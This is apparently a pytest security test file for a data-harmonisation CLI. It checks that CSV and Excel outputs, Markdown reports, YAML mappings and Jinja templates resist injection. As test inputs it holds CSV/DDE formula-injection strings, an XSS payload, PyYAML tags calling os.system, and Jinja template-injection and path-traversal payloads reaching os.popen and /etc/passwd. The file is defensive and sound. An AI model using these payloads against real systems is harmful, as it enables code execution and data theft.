"""Injection: text from agency files, file names and mappings cannot run as a formula in any
CSV or Excel output, break the Markdown, load Python objects from YAML, or make a template read
files outside its folder.

Payloads (``=``, ``+``, ``-``, ``@``, and tab / CR / LF first) go into record ids, code values,
headers, file names and the agency's name; then every CSV and XLSX output is read back: the
feedback workbook, ``--findings-out``, the store's rejected rows, ``tce export`` CSV and Excel,
and the report's ``pack.xlsx`` and ``measures.csv``. A text cell a spreadsheet would evaluate
must be neutralised: in CSV a leading apostrophe; in Excel an explicit string cell (never a
formula), with Excel's quote prefix or a leading apostrophe.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from _robust import MINI_CSV, MINI_MAPPING, PERIOD, STAMP, invoke, snapshot, write_key
from tce_cli.safe_io import neutralise_formula

PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    " =1+2",
    "=cmd|' /C calc'!A0",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
AGENCY_NAME = "=2+3 Council <img src=x onerror=alert(1)> | *bold* [link](http://x)"


def _poisoned_file(folder: Path, name: str) -> Path:
    """The mini return with payloads as record ids, code values and an extra header."""
    lines = MINI_CSV.read_text("utf-8").splitlines()
    header = lines[0] + ",\"=cmd|' /C calc'!A0\""
    rows = []
    for i, line in enumerate(lines[1:]):
        cells = next(csv.reader([line]))
        payload = PAYLOADS[i % len(PAYLOADS)]
        if i % 3 == 0:
            cells[0] = payload  # record id: invalid, so the row is rejected and listed
        elif i % 3 == 1:
            cells[8] = payload  # Gender: an unrecognised code, quoted in the message
        else:
            cells[0] = f"-R{i}"  # a valid record id starting with '-': kept in the store
        cells.append(payload)
        out = io.StringIO()
        csv.writer(out, lineterminator="").writerow(cells)
        rows.append(out.getvalue())
    path = folder / name
    path.write_text("\n".join([header, *rows]) + "\n", encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("injection")
    mapping = folder / "mapping.yaml"
    text = MINI_MAPPING.read_text("utf-8").replace(
        "name: Mini Children's Services", f"name: {json.dumps(AGENCY_NAME)}"
    )
    mapping.write_text(text, "utf-8")
    files = [_poisoned_file(folder, n) for n in ("=1+2 return.csv", "\t@SUM(1) return.csv")]
    out = folder / "out"
    out.mkdir()
    key = write_key(folder)
    for n, path in enumerate(files):
        invoke(
            ["validate", path, "--mapping", mapping, "--period", PERIOD]
            + ["--findings-out", out / f"findings{n}.csv", "--feedback", out / f"fb{n}.xlsx"],
            codes=(1,),
        )
    store = folder / "store"
    invoke(
        ["harmonise", *files, "--mapping", mapping, "--period", PERIOD, "--store", store]
        + ["--key-file", key, "--generated-at", STAMP],
        codes=(0,),
    )
    for name in ("h.csv", "h.xlsx"):
        invoke(["export", "--period", PERIOD, "--store", store, "--out", out / name], codes=(0,))
    invoke(
        ["report", "--period", PERIOD, "--store", store, "--out", out / "pack", "--no-suppression"],
        codes=(0,),
    )
    return folder


def _csv_files(folder: Path) -> list[Path]:
    return sorted(folder.rglob("*.csv"))


def _risky(text: str) -> bool:
    return neutralise_formula(text) != text


def test_every_csv_cell_is_neutralised(outputs: Path) -> None:
    files = [p for p in _csv_files(outputs) if "out" in p.parts or "rejected" in p.parts]
    names = {p.name for p in files}
    assert {"findings0.csv", "h.csv", "measures.csv", "mini-csc.csv"} <= names
    seen = 0
    for path in files:
        with path.open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not _risky(cell), (path.name, cell)
                    seen += cell.startswith("'") and cell[1:2] in TRIGGERS
    assert seen >= 10  # the payloads did reach the CSVs, neutralised


def _workbook_cells(path: Path) -> list[Any]:
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


@pytest.mark.parametrize("name", ["fb0.xlsx", "fb1.xlsx", "h.xlsx", "pack/pack.xlsx"])
def test_no_excel_cell_is_a_formula(name: str, outputs: Path) -> None:
    cells = _workbook_cells(outputs / "out" / name)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c for c in cells if isinstance(c.value, str)]
    for cell in texts:
        if _risky(cell.value):  # a formula-like text cell: an explicit string, quote-prefixed
            assert cell.data_type in ("s", "inlineStr"), (name, cell.coordinate)
            assert cell.quotePrefix, (name, cell.coordinate, cell.value)
    reached = [c for c in texts if _risky(c.value.removeprefix("'"))]
    assert reached  # the payloads reached the workbook (as text)


def test_the_agency_name_cannot_break_the_markdown(outputs: Path) -> None:
    text = (outputs / "out" / "pack" / "pack.md").read_text("utf-8")
    assert "&lt;img" in text and "<img" not in text  # no raw HTML
    assert "\\[link\\](http://x)" in text and "[link](" not in text  # no live link
    table: list[int] = []
    for line in [*text.splitlines(), ""]:  # every row of a table has the header's columns
        if line.startswith("|"):
            table.append(len(re.findall(r"(?<!\\)\|", line)))
        elif table:
            assert len(set(table)) == 1, table
            table = []


def test_payloads_are_kept_as_text_for_the_agency(outputs: Path) -> None:
    """Neutralising adds an apostrophe; it never drops or rewrites the agency's text."""
    rows = list(csv.DictReader((outputs / "out" / "findings0.csv").open(encoding="utf-8")))
    ids = {r["record_id"] for r in rows if r["record_id"]}
    assert {"'=1+2", "'-2+3", "'+1+2"} <= ids  # (cells are trimmed: '\t=1+2' is '=1+2')
    exported = list(csv.DictReader((outputs / "out" / "h.csv").open(encoding="utf-8")))
    kept = {r["record_id"] for r in exported}
    assert {"'-R11", "'-R14"} <= kept  # valid ids starting with '-': stored, exported neutralised
    assert {r["source_file"] for r in exported} == {"'=1+2 return.csv", "'\t@SUM(1) return.csv"}


# --- YAML and templates ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "yaml_text",
    [
        "!!python/object/apply:os.system ['touch pwned']\n",
        "agency: !!python/object/new:os.system ['touch pwned']\n",
        "agency: !!python/name:os.system\n",
        "agency: {id: x}\nsource: !!binary aGVsbG8=\n",
    ],
)
def test_yaml_is_loaded_safely(
    yaml_text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    mapping = tmp_path / "evil.yaml"
    mapping.write_text(yaml_text, "utf-8")
    for args in (
        ["validate", MINI_CSV, "--mapping", mapping, "--period", PERIOD],
        ["mapping", "check", mapping],
    ):
        invoke(args, codes=(2,))
    assert not (tmp_path / "pwned").exists()


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("templates")
    invoke(
        ["harmonise", MINI_CSV, "--mapping", MINI_MAPPING, "--period", PERIOD]
        + ["--store", folder / "store", "--key-file", write_key(folder), "--quiet"],
        codes=(0,),
    )
    return folder / "store"


@pytest.mark.parametrize(
    ("files", "link"),
    [
        ({"pack.md.j2": '{% include "../secret.txt" %}'}, None),
        ({"pack.md.j2": '{% include "sub/../../secret.txt" %}'}, None),
        ({"pack.md.j2": "{% include '/etc/passwd' %}"}, None),
        ({"pack.md.j2": '{% import "../secret.txt" as s %}'}, None),
        ({"pack.md.j2": '{% include "leak.j2" %}'}, "leak.j2"),
        ({"pack.md.j2": '{% extends "../secret.txt" %}'}, None),
        ({"pack.md.j2": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}, None),
        ({"pack.md.j2": "{{ cycler.__init__.__globals__.os.popen('id').read() }}"}, None),
        ({"pack.md.j2": "{{ lipsum.__globals__['os'].popen('id').read() }}"}, None),
    ],
)
def test_templates_cannot_reach_outside_their_folder(
    files: dict[str, str], link: str | None, store: Path, tmp_path: Path
) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT", "utf-8")
    templates = tmp_path / "templates"
    templates.mkdir()
    for name, text in files.items():
        (templates / name).write_text(text, "utf-8")
    if link:
        (templates / link).symlink_to(secret)
    out = tmp_path / "pack"
    result = invoke(
        ["report", "--period", PERIOD, "--store", store, "--out", out, "--templates", templates],
        codes=(2,),
    )
    assert "TOP-SECRET" not in result.stdout + result.stderr
    assert not out.exists()  # a template error writes nothing
    assert snapshot(tmp_path)["secret.txt"]


def test_a_template_in_the_folder_may_include_its_own_partials(store: Path, tmp_path: Path) -> None:
    templates = tmp_path / "templates"
    (templates / "parts").mkdir(parents=True)
    (templates / "parts" / "mine.md.j2").write_text("MY PARTIAL for {{ period.label }}", "utf-8")
    (templates / "pack.md.j2").write_text('{% include "parts/mine.md.j2" %}\n', "utf-8")
    out = tmp_path / "pack"
    invoke(
        ["report", "--period", PERIOD, "--store", store, "--out", out, "--templates", templates],
        codes=(0,),
    )
    assert (out / "pack.md").read_text("utf-8").startswith("MY PARTIAL for 2026-27 Q2")
